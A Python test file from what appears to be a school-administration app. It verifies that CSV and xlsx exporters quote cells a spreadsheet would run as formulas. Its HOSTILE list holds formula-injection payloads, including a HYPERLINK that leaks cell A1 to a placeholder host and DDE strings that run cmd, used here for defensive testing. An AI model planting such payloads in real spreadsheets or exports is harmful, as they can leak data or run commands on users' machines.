"""Issue 22 item 7: no typed text becomes a formula in a CSV or xlsx export. One helper
(``exports.cells``) serves every exporter; the files are read back."""

from __future__ import annotations

import csv
import io
from datetime import date

from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from ssa_desktop.domain import clock
from ssa_desktop.domain.entities import Contact, School
from ssa_desktop.exports import kvjs_csv, kvjs_xlsx
from ssa_desktop.exports import timeshare as ts_exports
from ssa_desktop.exports.cells import FORMULA_START, cell
from ssa_desktop.services import activities, timeshare
from ssa_desktop.services import statistics as stats
from ssa_desktop.storage import repositories as repo

HOSTILE = ['=HYPERLINK("http://x.example/?a="&A1;"Klick")', "=cmd|' /C calc'!A0",
           "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1"]


def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_quoted_and_numbers_stay():
    assert cell("=1+1") == "'=1+1"
    assert cell("@x") == "'@x"
    assert cell("-2+3") == "'-2+3"
    assert cell("\t=A1") == "'\t=A1"
    assert cell("-3,5") == "-3,5" and cell("+12") == "+12" and cell("-1.234,5") == "-1.234,5"
    assert cell("12 %") == "12 %" and cell(-3) == -3 and cell(None) is None
    assert cell("Gemeinschaftsschule") == "Gemeinschaftsschule"


@given(st.text())
def test_no_text_leaves_the_helper_as_a_formula(text):
    out = cell(text)
    assert not (isinstance(out, str) and out.startswith(FORMULA_START)) or \
        out.lstrip("+-").replace(",", "").replace(".", "").replace("%", "").strip().isdigit()
    assert out.lstrip("'") == text.lstrip("'") or out == text


def _school(conn, name: str):
    school = repo.SCHOOLS.insert(conn, School(name, code="X-1", id="school-x"))
    with clock.frozen(date(2026, 3, 2)):
        activities.record_contact(conn, Contact(date(2026, 3, 2), "EB", 30, school_id=school.id))
    return school


def _dangerous(value) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_START) and \
        not value.lstrip("+-").replace(",", "").replace(".", "").strip().isdigit()


def test_time_share_csv_reads_back_as_text(conn, tmp_path):
    for n, name in enumerate(HOSTILE):
        school = repo.SCHOOLS.insert(conn, School(name, code=f"X-{n}", id=f"school-x{n}"))
        report = timeshare.compute(conn, "2025/26", school.id, today=date(2026, 3, 2))
        raw = ts_exports.write_csv(report, tmp_path / f"z{n}.csv").read_bytes()
        rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=";"))
        assert rows[0][1] == "'" + name
        assert not any(_dangerous(v) for r in rows for v in r)


def test_kvjs_csv_and_xlsx_read_back_as_text(conn, tmp_path):
    _school(conn, "Schule am Park")
    rep = stats.report(conn, 2025, stats.Scope("school", "school-x"))
    doc = stats.export_document(rep)
    doc["template"]["title"] = HOSTILE[1]
    doc["fields"][0]["label"] = HOSTILE[0]
    doc["fields"][1]["section"] = HOSTILE[4]
    kvjs_csv.write(doc, tmp_path / "k.csv")
    rows = list(csv.reader(io.StringIO((tmp_path / "k.csv").read_text("utf-8-sig"), newline=""),
                           delimiter=";"))
    flat = [v for r in rows for v in r]
    assert "'" + HOSTILE[0] in [v.strip() for v in flat]
    assert not any(_dangerous(v) for v in flat)

    kvjs_xlsx.write(doc, tmp_path / "k.xlsx")
    sheet = load_workbook(tmp_path / "k.xlsx").active
    cells = [c for r in sheet.iter_rows() for c in r if c.value is not None]
    assert all(c.data_type != "f" for c in cells)
    assert not any(_dangerous(c.value) for c in cells)
    assert sheet["A1"].value == "'" + HOSTILE[1]


def test_an_xlsx_cell_with_control_characters_does_not_break_the_workbook(conn, tmp_path):
    _school(conn, "Schule am Park")
    doc = stats.export_document(stats.report(conn, 2025, stats.Scope("school", "school-x")))
    doc["template"]["title"] = "Bogen\x07\x1b mit Steuerzeichen"
    kvjs_xlsx.write(doc, tmp_path / "k.xlsx")
    assert load_workbook(tmp_path / "k.xlsx").active["A1"].value == "Bogen mit Steuerzeichen"
